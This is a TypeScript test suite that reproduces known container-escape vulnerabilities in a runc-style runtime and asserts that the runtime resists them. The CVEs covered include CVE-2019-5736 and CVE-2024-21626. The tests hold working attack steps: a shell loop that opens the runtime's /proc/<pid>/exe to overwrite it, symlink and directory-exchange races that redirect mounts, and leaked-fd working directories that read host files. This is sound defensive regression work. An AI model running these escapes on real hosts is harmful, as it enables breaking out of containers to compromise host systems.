/**
 * The known ways out of a container, tried: each test makes what runc's advisory describes, with a racer beside the
 * runtime where the hole was a race, and says what a runtime with that hole would show. See escape-box.ts for
 * trying them on another runtime.
 */

import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  closeSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as assert from 'uvu/assert';
import { sleep } from '../../pkg/wait/clock.ts';
import { suite } from '../harness/suite.ts';
import { type Box, type Config, createBox, type Result, RUNTIME } from './escape-box.ts';

const TIMEOUT_MS = 120_000;
/** A race is run until both of its states were met, at least and at most so often. */
const RUNS_MIN = 15;
const RUNS_MAX = 400;
suite('ways out of a container', ({ test, cleanup }) => {
  async function setUp(runtime = RUNTIME): Promise<Box> {
    const box = await createBox(runtime);
    cleanup(() => box.close());
    return box;
  }

  /** Runs the container again and again until `seen` holds, at least RUNS_MIN times. */
  async function repeat(box: Box, check: (result: Result) => void, seen: () => boolean) {
    for (let run = 0; run < RUNS_MIN || !seen(); run++) {
      if (run > RUNS_MAX) throw new Error('The race was never won nor lost: nothing was tried');
      check(box.run());
      await sleep(0);
    }
  }

  const without = (destination: string) => (config: Config) => {
    config.mounts = config.mounts.filter((mount) => !mount.destination.startsWith(destination));
  };

  test(
    'CVE-2019-5736: the runtime that executes itself inside cannot be overwritten',
    async () => {
      // A link to /proc/self/exe makes the runtime execute its own file in the container, where whoever opens
      // /proc/<pid>/exe may write to it once it has ended. A runtime with the hole has another hash afterwards.
      const victim = join(mkdtempSync(join(tmpdir(), 'mini-victim-')), 'runtime');
      cleanup(() => rmSync(join(victim, '..'), { recursive: true }));
      copyFileSync(RUNTIME, victim);
      execFileSync('chmod', ['755', victim]);
      const hash = () => createHash('sha256').update(readFileSync(victim)).digest('hex');
      const before = hash();
      const box = await setUp(victim);
      bringLibraries(victim, box.rootfs);
      symlinkSync('/proc/self/exe', join(box.rootfs, 'evil'));
      execFileSync('mkfifo', [join(box.rootfs, 'fifo')]);
      const attack = `while ! [ -e /go ]; do for p in /proc/[0-9]*; do
case "$(cat $p/cmdline 2>/dev/null | head -c 5)" in /evil) exec 4<$p/exe && touch /caught && break 2;; esac
done; done; echo end > /fifo; while [ -e $p/fd ]; do :; done
while :; do [ -e /stop ] && last=1; echo overwritten >> /proc/self/fd/4 && break; [ "$last" ] && break; done
touch /tried; sleep 1000`;
      box.config(['sh', '-c', attack]);
      const bundle = join(box.rootfs, '..');
      // In the background: as long as anybody executes a file nobody can write to it.
      spawnSync(
        victim,
        ['--root', join(box.dir, 'state'), 'run', '--detach', '--bundle', bundle, 'a'],
        { stdio: 'ignore' },
      );
      box.oci(['exec', 'a', '/evil', 'update', '--resources', '/fifo', 'nobody']);
      for (const name of ['go', 'stop']) writeFileSync(join(box.rootfs, name), '');
      while (!existsSync(join(box.rootfs, 'tried'))) await sleep(5);
      assert.ok(existsSync(join(box.rootfs, 'caught')), 'the attack never got at the executable');
      assert.is(hash(), before, 'the runtime was overwritten');
    },
    TIMEOUT_MS,
  );

  test(
    'CVE-2021-30465: a mount does not leave the root by a link that is exchanged',
    async () => {
      // A volume's directory and a link out of it change places while a mount is put in it. A runtime with the hole
      // makes the mount point outside, or mounts there, and then the container lacks the mount.
      const box = await setUp();
      const volume = join(box.dir, 'volume');
      const outside = join(box.dir, 'outside');
      for (const dir of [outside, join(box.rootfs, outside)]) mkdirSync(dir, { recursive: true });
      mkdirSync(join(volume, 'x'), { recursive: true });
      symlinkSync(outside, join(volume, 'y'));
      box.config(['cat', '/proc/self/mountinfo'], {
        mounts: [
          { destination: '/volume', type: 'bind', source: volume, options: ['rbind'] },
          { destination: '/volume/x/made', type: 'tmpfs', source: 'marker', options: ['size=4k'] },
        ],
      });
      await box.race('exchange', join(volume, 'x'), join(volume, 'y'));
      let isDirect = false;
      await repeat(
        box,
        ({ code, stdout }) => {
          assert.equal(readdirSync(outside), [], 'made outside of the root');
          if (code === 0) assert.match(stdout, / tmpfs marker /, 'mounted outside of the root');
          isDirect ||= [join(volume, 'x/made'), join(volume, 'y/made')].some(existsSync);
        },
        // Taken as it is seen from inside, the link leads to the same path below the root.
        () => isDirect && existsSync(join(box.rootfs, outside, 'made')),
      );
    },
    TIMEOUT_MS,
  );

  test(
    'CVE-2021-25741: a subPath stays in its volume though it is exchanged with a link while it is mounted',
    async () => {
      const box = await setUp();
      const [volume, outside] = [join(box.dir, 'volume'), join(box.dir, 'outside')];
      mkdirSync(join(volume, 'x'), { recursive: true });
      mkdirSync(outside);
      writeFileSync(join(volume, 'x/name'), 'inside');
      writeFileSync(join(outside, 'name'), 'outside');
      symlinkSync(outside, join(volume, 'y'));
      const source = join(volume, 'x');
      box.config(['cat', '/sub/name'], {
        mounts: [
          { destination: '/sub', type: 'bind', source, sourceRoot: volume, options: ['rbind'] },
        ],
      });
      await box.race('exchange', source, join(volume, 'y'));
      // What was mounted: the directory, or what the link is inside of the volume, or nothing.
      const seen = new Set<string>();
      await repeat(
        box,
        ({ code, stdout, stderr }) => {
          assert.is(stdout.includes('outside'), false, 'another part of the host was mounted');
          seen.add(code === 0 ? stdout : stderr);
        },
        () => seen.has('inside') && seen.size > 1,
      );
      assert.equal(readdirSync(outside), ['name'], 'made outside of the volume');
    },
    TIMEOUT_MS,
  );

  test('CVE-2023-27561: /proc and /sys are neither links nor covered', async () => {
    // With a link the mount ends up in a volume whose owner puts a fake in its place; a runtime with the hole runs
    // the program.
    const box = await setUp();
    const volume = join(box.dir, 'volume');
    mkdirSync(join(volume, 'proc'), { recursive: true });
    const bind = (destination: string) => ({
      mounts: [{ destination, type: 'bind', source: volume, options: ['rbind'] }],
    });
    for (const name of ['proc', 'sys']) {
      rmSync(join(box.rootfs, name), { recursive: true });
      symlinkSync('/volume/proc', join(box.rootfs, name));
      box.config(['true'], {}, (config) => {
        config.mounts.unshift(...bind('/volume').mounts);
      });
      const { code, stderr } = box.run();
      assert.is.not(code, 0);
      assert.match(stderr, /symbolic link|ordinary directory/);
      rmSync(join(box.rootfs, name));
      mkdirSync(join(box.rootfs, name));
    }
    for (const place of [
      '/proc',
      '/proc/sys',
      '/proc/self/attr',
      '/proc/../proc/1',
      '/other/sys',
    ]) {
      if (place.startsWith('/other')) symlinkSync('/proc', join(box.rootfs, 'other'));
      box.config(['true'], bind(place));
      const { code, stderr } = box.run();
      assert.is.not(code, 0, place);
      assert.match(stderr, /proc/);
    }
    writeFileSync(join(volume, 'uptime'), 'up\n');
    box.config(['cat', '/proc/uptime'], {
      mounts: [
        {
          destination: '/proc/uptime',
          type: 'bind',
          source: join(volume, 'uptime'),
          options: ['bind'],
        },
      ],
    });
    assert.is(box.run().stdout, 'up\n');
  });

  test(
    'CVE-2024-21626: no directory of the host is left open for the working directory',
    async () => {
      // Fd 3 is the host's root, as a caller may have leaked it. A runtime with the hole starts the program there.
      const box = await setUp();
      writeFileSync(join(box.dir, 'secret'), 'of the host\n');
      const look = [
        'sh',
        '-c',
        `cat .${box.dir}/secret ../../../../../../..${box.dir}/secret; pwd`,
      ];
      const root = openSync('/', 'r');
      cleanup(() => closeSync(root));
      const bundle = join(box.rootfs, '..');
      const places = Array.from({ length: 16 }, (_, at) => `/proc/self/fd/${at + 3}`);
      places.push(
        `/proc/self/fd/3${box.dir}/new`,
        '/proc/thread-self/fd/3',
        '/proc/1/cwd/../../..',
      );
      for (const cwd of places) {
        box.config(look, { process: { cwd } });
        const { stdout } = box.oci(['run', '--bundle', bundle, 'a'], [root]);
        assert.not.match(stdout, /of the host/, cwd);
      }
      assert.not(existsSync(join(box.dir, 'new')), 'a directory of the host was made');
      box.config(['sh', '-c', 'ls /proc/self/fd; ls -l /proc/1/fd | grep -c " -> /$"']);
      assert.is(box.oci(['run', '--bundle', bundle, 'a'], [root]).stdout, '0\n1\n2\n3\n0\n');
      box.config(['sleep', '1000']);
      const started = spawnSync(
        box.runtime,
        ['--root', join(box.dir, 'state'), 'run', '--detach', '--bundle', bundle, 'a'],
        { stdio: ['ignore', 'ignore', 'ignore', root] },
      );
      assert.is(started.status, 0);
      for (const cwd of places) {
        const file = join(box.dir, 'process.json');
        const user = { uid: 0, gid: 0 };
        writeFileSync(file, JSON.stringify({ args: look, cwd, env: ['PATH=/bin'], user }));
        const { stdout } = box.oci(['exec', '--process', file, 'a'], [root]);
        assert.not.match(stdout, /of the host/, cwd);
      }
    },
    TIMEOUT_MS,
  );

  test(
    'CVE-2025-31133: masked paths are masked by the null device or not at all',
    async () => {
      // /dev/null and a link to another file change places. A runtime with the hole binds that file over the masked
      // one, so that it can be read there.
      const box = await setUp();
      const dev = join(box.rootfs, 'dev');
      writeFileSync(join(box.rootfs, 'secret'), 'told\n');
      writeFileSync(join(box.rootfs, 'masked'), 'told\n');
      execFileSync('mknod', [join(dev, 'null'), 'c', '1', '3']);
      symlinkSync('/secret', join(dev, 'link'));
      box.config(
        ['cat', '/masked'],
        { linux: { maskedPaths: ['/masked'], readonlyPaths: [] } },
        without('/dev'),
      );
      let masked = 0;
      let refused = 0;
      const check = ({ code, stdout }: Result) => {
        assert.is(stdout, '', 'a masked file was read');
        if (code === 0) masked++;
        else refused++;
      };
      const bothSeen = () => masked > 0 && refused > 0;
      const stop = await box.race('exchange', join(dev, 'null'), join(dev, 'link'));
      await repeat(box, check, bothSeen);
      await stop();
      // Nor is it skipped because there is nothing to mask it with.
      rmSync(join(dev, 'link'), { force: true });
      rmSync(join(dev, 'null'), { force: true });
      execFileSync('mknod', [join(dev, 'null'), 'c', '1', '3']);
      [masked, refused] = [0, 0];
      await box.race('away', join(dev, 'null'), join(dev, 'gone'));
      await repeat(box, check, bothSeen);
    },
    TIMEOUT_MS,
  );

  test(
    'CVE-2025-52565: /dev/console is the terminal or nothing',
    async () => {
      // The directory of the terminals and one with links to a file change places. A runtime with the hole binds
      // that file at /dev/console before files are masked.
      const box = await setUp();
      const dev = join(box.rootfs, 'dev');
      writeFileSync(join(box.rootfs, 'secret'), 'told\n');
      for (const name of ['pts', 'fake']) mkdirSync(join(dev, name));
      for (let at = 0; at < 4; at++) symlinkSync('/secret', join(dev, 'fake', `${at}`));
      symlinkSync('/dev/ptmx-device', join(dev, 'fake/ptmx'));
      const socket = join(box.dir, 'console');
      await box.race('console', socket);
      // With the root file system's own /dev, which an attacker may share; stdout is the terminal.
      const result = join(box.rootfs, 'result');
      box.config(
        ['sh', '-c', 'stat -c "%F" /dev/console > /result 2>&1'],
        { hasTerminal: true },
        (config) => {
          const pts = config.mounts.filter(({ destination }) => destination === '/dev/pts');
          without('/dev')(config);
          config.mounts.push(...pts);
        },
      );
      const run = () =>
        box.oci(['run', '--console-socket', socket, '--bundle', join(box.rootfs, '..'), 'a']);
      assert.is(run().code, 0);
      assert.is(readFileSync(result, 'utf8'), 'character special file\n');
      await box.race('exchange', join(dev, 'pts'), join(dev, 'fake'));
      let made = 0;
      let refused = 0;
      await repeat(
        { ...box, run },
        ({ code }) => {
          if (code !== 0) refused++;
          else if (++made > 0) assert.is(readFileSync(result, 'utf8'), 'character special file\n');
        },
        () => made > 0 && refused > 0,
      );
      // The same without a race: a runtime with the hole takes the terminal's name for the terminal.
      const quiet = await setUp();
      const runQuietly = (changed: string) => {
        quiet.config(
          ['sh', '-c', 'stat -c "%F" /dev/console > /result 2>&1'],
          { hasTerminal: true },
          (config) => {
            const pts = config.mounts.filter(({ destination }) => destination === '/dev/pts');
            without('/dev')(config);
            config.mounts.push(...pts.map((mount) => ({ ...mount, destination: changed })));
          },
        );
        const quietBundle = join(quiet.rootfs, '..');
        return quiet.oci(['run', '--console-socket', socket, '--bundle', quietBundle, 'a']);
      };
      writeFileSync(join(quiet.rootfs, 'secret'), 'told\n');
      for (const name of ['0', '1', '2', '3', 'ptmx']) {
        mkdirSync(join(quiet.rootfs, 'dev/pts'), { recursive: true });
        symlinkSync(
          name === 'ptmx' ? '/other/ptmx' : '/secret',
          join(quiet.rootfs, 'dev/pts', name),
        );
      }
      assert.is(runQuietly('/other').code, 0);
      assert.is(readFileSync(join(quiet.rootfs, 'result'), 'utf8'), 'character special file\n');
      // A link in its place would have the terminal bound over what it points to.
      rmSync(join(quiet.rootfs, 'dev/console'));
      symlinkSync('/secret', join(quiet.rootfs, 'dev/console'));
      const linked = runQuietly('/dev/pts');
      assert.match(linked.stderr, /console/);
      assert.is.not(linked.code, 0);
    },
    TIMEOUT_MS,
  );

  test(
    'CVE-2025-52881: what the runtime writes to /proc goes to the real one',
    async () => {
      // /proc and a directory with files of the same names change places while the runtime sets sysctls, scores and
      // masks. A runtime with the hole writes into the files, or leaves the real /proc without masks.
      const box = await setUp();
      const fake = join(box.rootfs, 'fake');
      const files = ['self/oom_score_adj', 'self/attr/exec', 'sys/net/ipv4/ip_forward', 'version'];
      for (const file of files) {
        mkdirSync(join(fake, file, '..'), { recursive: true });
        writeFileSync(join(fake, file), 'mine');
      }
      box.config(
        [
          'sh',
          '-c',
          'for d in /proc /fake; do cd $d && [ -e 1/status ] && cat sys/net/ipv4/ip_forward && stat -c %t:%T version; done; true',
        ],
        {
          process: { oomScoreAdj: 500 },
          linux: { sysctl: { 'net.ipv4.ip_forward': '1' }, maskedPaths: ['/proc/version'] },
        },
      );
      await box.race('exchange', join(box.rootfs, 'proc'), fake);
      const mine = () =>
        [fake, join(box.rootfs, 'proc')]
          .flatMap((dir) => files.map((file) => join(dir, file)))
          .flatMap((path) => readIfThere(path));
      let made = 0;
      let refused = 0;
      await repeat(
        box,
        ({ code, stdout, stderr }) => {
          for (const text of mine()) assert.is(text, 'mine', 'a write went to the fake');
          if (code !== 0) refused++;
          else if (++made > 0 && stdout !== '')
            assert.match(stdout, /^(1\n1:3\n)+$/, `not set or not masked: ${stdout}${stderr}`);
        },
        () => made > 0 && refused > 0,
      );
    },
    TIMEOUT_MS,
  );

  test('CVE-2025-52881: an exec does not write to what the container mounted at /proc', async () => {
    // A runtime with the hole puts the exec's score into the container's own file.
    const box = await setUp();
    const script = `mount -t tmpfs tmpfs /proc && mkdir -p /proc/self/attr
echo -n mine > /proc/self/oom_score_adj; echo -n mine > /proc/self/attr/exec; touch /ready; exec sleep 1000`;
    const all = ['CAP_SYS_ADMIN', 'CAP_SYS_RESOURCE'];
    const capabilities = { bounding: all, effective: all, permitted: all };
    box.config(['sh', '-c', script], { process: { capabilities, noNewPrivileges: false } });
    const bundle = join(box.rootfs, '..');
    spawnSync(
      box.runtime,
      ['--root', join(box.dir, 'state'), 'run', '--detach', '--bundle', bundle, 'a'],
      { stdio: 'ignore' },
    );
    while (!existsSync(join(box.rootfs, 'ready'))) await sleep(5);
    const file = join(box.dir, 'process.json');
    const pidFile = join(box.dir, 'pid');
    const user = { uid: 0, gid: 0 };
    const process_ = { cwd: '/', env: ['PATH=/bin'], user, oomScoreAdj: 501 };
    writeFileSync(file, JSON.stringify({ ...process_, args: ['sleep', '1000'] }));
    spawnSync(
      box.runtime,
      [
        ...['--root', join(box.dir, 'state'), 'exec', '--detach', '--pid-file', pidFile],
        ...['--process', file, 'a'],
      ],
      { stdio: 'ignore' },
    );
    assert.is(
      readFileSync(`/proc/${readFileSync(pidFile, 'utf8')}/oom_score_adj`, 'utf8'),
      '501\n',
    );
    const told = box.oci(['exec', 'a', 'cat', '/proc/self/oom_score_adj', '/proc/self/attr/exec']);
    assert.is(told.stdout, 'minemine');
  });
});

/** Only a build with sanitizers has any. */
function bringLibraries(program: string, rootfs: string): void {
  const { stdout } = spawnSync('ldd', [program], { encoding: 'utf8' });
  for (const [path] of stdout.matchAll(/\/\S+\.so\S*/g)) {
    mkdirSync(join(rootfs, path, '..'), { recursive: true });
    copyFileSync(path, join(rootfs, path));
  }
}

function readIfThere(path: string): readonly string[] {
  try {
    return [readFileSync(path, 'utf8')];
  } catch {
    return []; // It is changing places.
  }
}
